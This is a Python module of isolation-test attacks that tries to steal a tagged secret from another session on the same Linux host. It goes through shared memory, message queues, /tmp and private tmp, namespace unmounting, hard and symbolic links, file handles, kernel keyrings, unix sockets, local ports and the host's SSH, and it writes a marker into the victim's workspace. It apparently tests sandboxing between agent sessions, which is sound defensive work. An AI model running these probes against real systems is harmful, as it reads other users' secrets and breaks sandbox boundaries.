"""Attacks through what a machine shares between its users: memory, queues, files, keys, names, ports."""

import ctypes
import os
import re
import socket
import sys

from common import (
    KNOWN, attempt, checked, hear, in_new_namespaces, libc, read, secret_in, steal_file, sysv_key, views,
)

TAG, STATE = KNOWN["TAG"], KNOWN["V_S"]


def shm_file():
    return steal_file(f"/dev/shm/{TAG}", f"/dev/shm/{TAG}")


def sysv_memory():
    numbers = []
    key = libc.shmget(sysv_key(), 0, 0)
    if key != -1:
        numbers.append(key)
    with open("/proc/sysvipc/shm") as file:
        numbers += [int(line.split()[1]) for line in file.readlines()[1:]]
    libc.shmat.restype = ctypes.c_void_p
    for number in numbers + list(range(64)):
        address = libc.shmat(number, None, 0o10000)
        if address not in (None, ctypes.c_void_p(-1).value):
            found = secret_in(ctypes.string_at(address, 64))
            libc.shmdt(ctypes.c_void_p(address))
            if found:
                return found
    return None


def sysv_queue():
    queue = checked(libc.msgget(sysv_key(), 0))
    message = ctypes.create_string_buffer(256)
    checked(libc.msgrcv(queue, message, 240, 0, 0o4000))
    return secret_in(message.raw)


def posix_queue():
    queue = checked(libc.mq_open(f"/{TAG}".encode(), os.O_RDONLY | os.O_NONBLOCK))
    message = ctypes.create_string_buffer(8192)
    checked(libc.mq_receive(queue, message, 8192, None))
    return secret_in(message.raw)


def tmp_file():
    return steal_file(f"/tmp/{TAG}", f"{STATE}/tmp/{TAG}")


def var_tmp_file():
    return steal_file(f"/var/tmp/{TAG}", f"{STATE}/tmp/{TAG}")


def private_tmp():
    """Where systemd keeps the private /tmp of each unit."""
    for top in ("/tmp", "/var/tmp", "/proc/1/root/tmp"):
        for name in os.listdir(top):
            try:
                found = secret_in(read(f"{top}/{name}/tmp/{TAG}"))
            except OSError:
                continue
            if found:
                return found
    return None


def uncover(path):
    """What a mount hides, from namespaces of one's own."""

    def work():
        for place in ("/tmp", "/run", "/home", "/var/tmp", "/dev/shm", STATE):
            libc.umount2(place.encode(), 2)
        return secret_in(read(path))

    return in_new_namespaces(work)


def uncover_tmp():
    return uncover(f"{STATE}/tmp/{TAG}")


def home_file():
    return steal_file(f"/home/agent/{TAG}", f"{STATE}/home/{TAG}")


def workspace_file():
    return steal_file(f"/home/workspace/{TAG}", f"{KNOWN['V_WORKSPACE']}/{TAG}")


def uncover_workspace():
    return uncover(f"{KNOWN['V_WORKSPACE']}/{TAG}")


def change_workspace():
    """Write where the victim works."""
    mark = f"{TAG}-was-here"
    for path in views(f"/home/workspace/{TAG}", f"{KNOWN['V_WORKSPACE']}/{TAG}"):
        try:
            if secret_in(read(path)):
                with open(os.path.join(os.path.dirname(path), mark), "w") as file:
                    file.write("x")
                return f"{path} has a neighbour"
        except OSError:
            continue
    return None


def links(work):
    """A name of one's own for a file of the victim, by hard link or rename: a link that root may follow later."""
    last = None
    for path in views(f"/home/workspace/{TAG}", f"{KNOWN['V_WORKSPACE']}/{TAG}"):
        for own in ("/home/workspace", "/tmp", "/home/agent", KNOWN["A_WORKSPACE"]):
            try:
                name = f"{own}/{TAG}-link"
                if os.path.realpath(path).startswith(own + "/") and own != KNOWN["A_WORKSPACE"]:
                    continue
                work(path, name)
                found = secret_in(read(name))
                os.unlink(name)
                if found:
                    return found
            except OSError as fault:
                last = fault
    raise last


def hard_link():
    return links(os.link)


def symbolic_link():
    return links(os.symlink)


def handles():
    """Files by inode instead of by path (open_by_handle_at)."""
    mount = os.open("/", os.O_RDONLY)
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 24)
    return f"descriptor {checked(libc.syscall(304, mount, handle, os.O_RDONLY))}"


def read_key():
    data = ctypes.create_string_buffer(256)
    serials = [int(KNOWN[name]) for name in ("V_KEY_SERIAL",) if KNOWN.get(name)]
    with open("/proc/keys") as file:
        serials += [int(line.split()[0], 16) for line in file if TAG in line]
    last = OSError("no key is seen")
    for serial in serials:
        try:
            checked(libc.syscall(250, 11, serial, data, 256, 0))
            return secret_in(data.raw)
        except OSError as fault:
            last = fault
    raise last


def request_key():
    key = checked(libc.syscall(249, b"user", TAG.encode(), None, 0))
    data = ctypes.create_string_buffer(256)
    checked(libc.syscall(250, 11, key, data, 256, 0))
    return secret_in(data.raw)


def abstract():
    with open("/proc/net/unix") as file:
        names = re.findall(r"@(\S+)", file.read())
    for name in dict.fromkeys([TAG, *names]):
        try:
            found = hear("\0" + name)
        except OSError:
            continue
        if found:
            return found
    return None


def port():
    return hear(("127.0.0.1", int(KNOWN["PORT"])))


def other_ports():
    with open("/proc/net/tcp") as file:
        ports = [int(line.split()[1].split(":")[1], 16) for line in file.readlines()[1:] if line.split()[3] == "0A"]
    for number in dict.fromkeys(ports):
        try:
            found = hear(("127.0.0.1", number))
        except OSError:
            continue
        if found:
            return found
    return None


def outside():
    """Whoever listens beyond the session: here the host's own ssh."""
    for address in (KNOWN["HOST_ADDRESS"], "127.0.0.1"):
        try:
            with socket.create_connection((address, 22), 2) as link:
                return b"a banner: " + link.recv(64).strip()
        except OSError as fault:
            last = fault
    raise last


attempt(*{
    "shm": [shm_file],
    "sysv": [sysv_memory, sysv_queue],
    "mqueue": [posix_queue],
    "tmp": [tmp_file, var_tmp_file, private_tmp, uncover_tmp],
    "home": [home_file],
    "workspace": [workspace_file, uncover_workspace, change_workspace],
    "links": [hard_link, symbolic_link, handles],
    "keyring": [read_key, request_key],
    "abstract": [abstract],
    "loopback": [port, other_ports],
    "outside": [outside],
}[sys.argv[1]])
